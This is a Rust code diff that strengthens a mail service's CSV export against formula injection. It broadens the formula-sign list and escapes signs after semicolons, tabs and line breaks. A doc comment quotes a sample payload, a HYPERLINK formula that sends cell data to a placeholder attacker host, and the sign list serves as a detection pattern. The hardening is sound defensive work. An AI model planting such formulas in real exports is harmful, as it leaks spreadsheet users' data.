@@ -13,30 +13,59 @@ pub trait Row {
 }
 
 /// The signs that make a spreadsheet read a cell as a formula when they come first, and their
-/// full-width forms, which some spreadsheets fold to them.
+/// full-width and small forms, which some spreadsheets fold to them.
 const FORMULA_SIGNS: &[char] = &[
-    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
+    '=', '+', '-', '@', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}', '\u{FE66}', '\u{FE62}',
+    '\u{FE63}', '\u{FE6B}',
 ];
+
+/// Where a spreadsheet may start a new cell inside ours: Excel in a semicolon locale splits
+/// lines on `;` whatever the quoting, and imports may split on tabs and line breaks.
+const CELL_BREAKS: &[char] = &[';', '\t', '\r', '\n'];
+
+/// What an import may drop before it looks at a cell's first character: white space (spaces,
+/// no-break spaces, tabs) and characters no reader sees (a byte-order mark, zero-width
+/// spaces, soft hyphens).
+fn skippable(c: char) -> bool {
+    c.is_whitespace() || crate::service::text::is_hidden(c)
+}
 
 /// A cell no spreadsheet runs. Senders and subjects come from anyone who can send mail, tags
 /// and notes from any vend token: a subject `=HYPERLINK("https://evil.example/?"&A1, "Open")`
 /// would otherwise run on the admin's machine when they open the export (CSV injection).
-/// A cell gets a leading apostrophe, which spreadsheets take as "this is text" and do not
-/// show, when it starts with a tab or a line break (OWASP's list), or when its first
-/// character after any white space (a no-break space, a byte-order mark…, which an import
-/// may trim) is one of the signs. A program reading the file sees the apostrophe and can
-/// strip it (docs/api.md says so).
+/// A formula sign gets an apostrophe in front of it, which spreadsheets take as "this is
+/// text" and do not show, wherever a cell could start with it: at the start, after any
+/// skippable characters, and after each `;`, tab or line break (where a semicolon-locale
+/// Excel or a tab import starts a new cell). A leading tab or line break is escaped too
+/// (OWASP's list). A program reading the file sees the apostrophes and can strip them
+/// (docs/api.md says so).
 pub fn safe_cell(cell: &str) -> Cow<'_, str> {
-    let control = cell.starts_with(['\t', '\r', '\n']);
-    let first = cell
-        .trim_start_matches(|c: char| c.is_whitespace() || c == '\u{FEFF}')
-        .chars()
-        .next();
-    if control || first.is_some_and(|c| FORMULA_SIGNS.contains(&c)) {
-        Cow::Owned(format!("'{cell}"))
-    } else {
-        Cow::Borrowed(cell)
+    let mut out = String::new();
+    let mut copied = 0;
+    // Whether the next character that is not skippable could start a cell.
+    let mut at_start = true;
+    for (i, c) in cell.char_indices() {
+        let escape = if i == 0 && CELL_BREAKS[1..].contains(&c) {
+            true
+        } else {
+            at_start && FORMULA_SIGNS.contains(&c)
+        };
+        if escape {
+            out.push_str(&cell[copied..i]);
+            out.push('\'');
+            copied = i;
+        }
+        if CELL_BREAKS.contains(&c) {
+            at_start = true;
+        } else if !skippable(c) {
+            at_start = false;
+        }
     }
+    if copied == 0 && out.is_empty() {
+        return Cow::Borrowed(cell);
+    }
+    out.push_str(&cell[copied..]);
+    Cow::Owned(out)
 }
 
 /// `rows` as CSV (RFC 4180: CRLF line ends, fields quoted when they hold a comma, a quote or
@@ -117,6 +146,9 @@ impl Row for MessageRecord {
         "ses_message_id",
         "mailer_message_id",
         "updated_at",
+        "delivery_state",
+        "delivery_detail",
+        "delivery_at",
     ];
 
     fn cells(&self) -> Vec<Cow<'_, str>> {
@@ -136,6 +168,9 @@ impl Row for MessageRecord {
             Cow::Borrowed(&self.ses_message_id),
             optional(&self.mailer_message_id),
             Cow::Borrowed(&self.updated_at),
+            Cow::Borrowed(self.delivery.as_ref().map_or("", |d| d.state.as_str())),
+            Cow::Borrowed(self.delivery.as_ref().map_or("", |d| d.detail.as_str())),
+            Cow::Borrowed(self.delivery.as_ref().map_or("", |d| d.at.as_str())),
         ]
     }
 }
